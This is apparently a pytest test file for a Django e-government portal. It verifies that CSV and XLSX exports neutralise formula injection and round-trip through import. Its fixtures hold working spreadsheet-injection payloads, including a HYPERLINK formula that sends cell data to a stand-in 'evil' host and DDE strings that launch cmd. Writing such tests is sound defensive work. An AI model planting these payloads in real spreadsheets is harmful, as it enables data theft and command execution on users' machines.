"""Formula injection: a text someone typed (a figure's source or note, a unit's or an agency's
name) that a spreadsheet would run as a formula comes out of every CSV and XLSX the portal
writes as inert text, and the files that can be imported back still import back unchanged
(egov_portal/spreadsheet_cells.py)."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile

from accounts.services import demo_users_create
from egov_portal.spreadsheet_cells import inert, inert_frame, restored
from entry import services as entry_services
from indicators.models import Figure, Indicator
from indicators.periods import parse_period
from plans.models import Plan
from reports.workbook import HEADER_ROW, plan_workbook
from units.models import Agency, Unit

HOSTILE = '=HYPERLINK("http://evil/?d="&A2,"x")'
HOSTILE_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
INERT = "'" + HOSTILE
INERT_NOTE = "'" + HOSTILE_NOTE


# --- The rule, without the database -------------------------------------------------------

MADE_INERT = [
    HOSTILE,
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    HOSTILE_NOTE,
    "\t=1+1",
    "\r=1+1",
    "- ghi chú đầu dòng",
    "+84 912 345 678",
    "=",
    "'=already quoted by someone",  # read back with its apostrophe, as it was stored
    "''=1",
]
LEFT_ALONE = [
    "Báo cáo quý",
    "",
    "a=b",
    "'apostrophe first",
    "-5",
    "-12.5",
    "-12,5",
    "+3",
    "-1.5E+3",
    "-85%",
    "2021Q1",
]


@pytest.mark.parametrize("text", MADE_INERT)
def test_a_text_that_would_run_as_a_formula_gets_an_apostrophe(text):
    assert inert(text) == "'" + text
    assert restored(inert(text)) == text


@pytest.mark.parametrize("text", LEFT_ALONE)
def test_other_texts_and_numbers_written_as_text_are_left_alone(text):
    assert inert(text) == text
    assert restored(text) == text


@pytest.mark.parametrize(
    "value", [None, -5, -12.5, Decimal("-3.25"), datetime.date(2021, 3, 31), True]
)
def test_values_that_are_not_text_are_left_alone(value):
    assert inert(value) is value


def test_an_apostrophe_before_anything_but_a_formula_is_kept_on_reading():
    assert restored("'") == "'"
    assert restored("'plain") == "'plain"
    assert restored("'-5") == "'-5"  # never written by inert(): it is someone's text


def test_a_frames_text_cells_are_made_inert_and_its_numbers_kept():
    frame = pd.DataFrame(
        {
            "name": [HOSTILE, "Xã A"],
            "value": [-5.0, 2.5],
            "gap": [Decimal("-1.5"), None],
            "count": [-3, 4],
        }
    )
    made = inert_frame(frame)
    assert list(made["name"]) == [INERT, "Xã A"]
    assert list(made["value"]) == [-5.0, 2.5] and made["value"].dtype == frame["value"].dtype
    assert list(made["count"]) == [-3, 4] and made["count"].dtype == frame["count"].dtype
    assert made["gap"][0] == Decimal("-1.5")
    assert frame["name"][0] == HOSTILE  # the caller's frame is not changed


# --- Every export -------------------------------------------------------------------------

OLD = datetime.date(2021, 7, 31)


def sheet_values(sheet, min_row: int = 1) -> list:
    return [cell for row in sheet.iter_rows(min_row=min_row) for cell in row]


def assert_inert_cells(cells, *texts: str) -> None:
    """Each of `texts` is in some cell, as text (never a formula), with its apostrophe."""
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    for text in texts:
        assert "'" + text in values, text
        assert text not in values, text


def hostile_figures(**where) -> int:
    """The approved figures matching `where` given a hostile source and note."""
    count = Figure.objects.filter(status=Figure.Status.APPROVED, **where).update(
        source=HOSTILE, note=HOSTILE_NOTE
    )
    assert count > 0
    return count


@pytest.fixture
def staff(db):
    from rest_framework.test import APIClient

    client = APIClient()
    client.force_authenticate(get_user_model().objects.create_user("warehouse", is_staff=True))
    return client


@pytest.mark.django_db
def test_observations_csv_export_is_inert_and_imports_back_unchanged(api_client, staff):
    hostile_figures(unit__code="064")
    query = {"unit_code": "064", "on": OLD.isoformat()}
    response = api_client.get("/api/v1/observations/export/", query)  # anonymous
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and {(r["source"], r["note"]) for r in rows} == {(INERT, INERT_NOTE)}
    assert all(not r["value"].startswith("'") for r in rows)  # numbers stay numbers
    body = staff.post(
        "/api/v1/observations/bulk/?dry_run=true", text.encode(), content_type="text/csv"
    ).json()
    assert body["rejected"] == 0
    assert body["unchanged"] == body["rows"] == len(rows)


@pytest.mark.django_db
def test_observations_xlsx_export_is_inert_and_imports_back_unchanged(api_client, staff):
    count = hostile_figures(unit__code="064")
    query = {"unit_code": "064", "on": OLD.isoformat(), "file": "xlsx"}
    response = api_client.get("/api/v1/observations/export/", query)
    content = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert_inert_cells(sheet_values(sheet), HOSTILE, HOSTILE_NOTE)
    header = [c.value for c in sheet[1]]
    values = [row[header.index("value")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(v, int | float) for v in values)
    upload = SimpleUploadedFile("figures.xlsx", content)
    body = staff.post("/api/v1/observations/bulk/?dry_run=true", {"file": upload}).json()
    assert body["rejected"] == 0
    assert body["unchanged"] == body["rows"] == count


@pytest.fixture
def admin_client(client, db):
    demo_users_create()
    client.force_login(get_user_model().objects.get(username="admin"))
    return client


def vinh_linh_2020() -> Unit:
    return Unit.objects.in_force(datetime.date(2020, 10, 13)).get(code="464")


@pytest.mark.django_db
def test_indicator_page_csv_and_xlsx_are_inert(admin_client):
    vinh_linh = vinh_linh_2020()
    hostile_figures(unit=vinh_linh, indicator__code="APP_DIGSIG_DOCS", period="2020Q4")
    url = f"/dashboard/{vinh_linh.pk}/indicator/APP_DIGSIG_DOCS/"
    query = {"period": "2020Q4", "table": "figures"}
    response = admin_client.get(url, {**query, "export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert INERT in cells and HOSTILE not in cells

    response = admin_client.get(url, {**query, "export": "xlsx"})
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert_inert_cells(sheet_values(book["Số liệu"]), HOSTILE)


@pytest.mark.django_db
def test_plan_workbook_is_inert():
    commune = (
        Unit.objects.in_force(datetime.date(2018, 6, 1))
        .filter(province__code="44", level="commune")
        .order_by("code")
        .first()
    )
    Unit.objects.filter(pk=commune.pk).update(name=HOSTILE_NOTE)
    period = parse_period("2018Q2")
    Figure.objects.create(
        unit=commune,
        indicator=Indicator.objects.get(code="SVC_ONE_STOP"),
        period=period.id,
        period_start=period.start,
        period_end=period.end,
        value=Decimal(1),
        status=Figure.Status.APPROVED,
        source=HOSTILE,
    )
    content = plan_workbook(
        Plan.objects.get(code="QB-2342-2018"),
        parse_period("2018"),
        today=datetime.date(2025, 1, 1),
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content))["Số liệu"]
    assert_inert_cells(sheet_values(sheet, HEADER_ROW), HOSTILE, HOSTILE_NOTE)


@pytest.mark.django_db
def test_laggards_csv_and_xlsx_are_inert(client):
    agency = Agency.objects.get(name="Sở Thông tin và Truyền thông tỉnh Vĩnh Phúc")
    Agency.objects.filter(pk=agency.pk).update(name=HOSTILE)
    url = "/plans/VP-CD-2016/laggards/"
    response = client.get(url, {"period": "2016", "export": "csv"})  # anonymous
    cells = [
        c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row
    ]
    assert INERT in cells and HOSTILE not in cells
    response = client.get(url, {"period": "2016", "export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert_inert_cells(sheet_values(sheet), HOSTILE)


@pytest.mark.django_db
def test_completeness_csv_is_inert(admin_client):
    vinh_linh = Unit.objects.in_force(parse_period("2025Q1").end).get(code="464")
    commune = Unit.objects.in_force(parse_period("2025Q1").end).filter(parent=vinh_linh).first()
    Unit.objects.filter(pk=commune.pk).update(name=HOSTILE)
    response = admin_client.get(
        "/entry/completeness/", {"unit": vinh_linh.pk, "period": "2025Q1", "export": "csv"}
    )
    assert response.status_code == 200
    cells = [
        c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row
    ]
    assert INERT in cells and HOSTILE not in cells


@pytest.mark.django_db
def test_an_agencys_template_is_inert_and_imports_back(admin_client):
    period = parse_period("2021Q1")
    agency = next(
        a
        for a in Agency.objects.select_related("unit").order_by("pk")
        if a.unit.is_in_force(period.end)
        and entry_services.applicable_indicators(a.unit, a, period)
    )
    Agency.objects.filter(pk=agency.pk).update(name=HOSTILE)
    response = admin_client.get(f"/entry/agency/{agency.pk}/{period.id}/template.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = book.worksheets[0]
    assert_inert_cells(sheet_values(sheet), HOSTILE)
    header = [c.value for c in sheet[2]]
    rows = list(sheet.iter_rows(min_row=3))
    for row in rows:  # filled in: 1 fits every kind of indicator's value
        row[header.index("value")].value = 1
        row[header.index("source")].value = HOSTILE_NOTE
    out = io.BytesIO()
    book.save(out)
    upload = SimpleUploadedFile("mau.xlsx", out.getvalue())
    result = admin_client.post("/entry/import/", {"file": upload, "dry_run": "on"})
    result = result.context["result"]
    assert (result["created"], result["rejected"]) == (len(rows), 0), result["errors"]


ADMIN_EXPORTS = [
    ("/admin/indicators/figure/export/", HOSTILE),
    ("/admin/units/agency/export/", HOSTILE_NOTE),
]


def admin_export(client, url: str, file_format: str):
    form = client.get(url).context["form"]
    data = {"format": file_format, "resource": "0"}
    data |= {
        name: "on"
        for name in form.fields
        if getattr(form.fields[name], "is_selectable_field", False)
    }
    return client.post(url, data)


@pytest.mark.django_db
def test_admin_exports_are_inert_and_import_back_unchanged(admin_client):
    figure = Figure.objects.filter(status=Figure.Status.APPROVED).order_by("pk").first()
    Figure.objects.filter(pk=figure.pk).update(source=HOSTILE)
    Agency.objects.filter(pk=Agency.objects.order_by("pk").first().pk).update(name=HOSTILE_NOTE)
    for url, text in ADMIN_EXPORTS:
        response = admin_export(admin_client, url, "0")  # CSV
        cells = [
            c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row
        ]
        assert "'" + text in cells and text not in cells, url
        response = admin_export(admin_client, url, "1")  # XLSX
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        assert_inert_cells(sheet_values(sheet), text)

    exported = admin_export(admin_client, "/admin/indicators/figure/export/", "1")
    upload = SimpleUploadedFile("figures.xlsx", exported.content)
    page = admin_client.post(
        "/admin/indicators/figure/import/",
        {"format": "1", "resource": "0", "import_file": upload},
    )
    result = page.context["result"]
    assert not result.has_errors() and not result.invalid_rows
    assert {row.import_type for row in result.rows} == {"skip"}
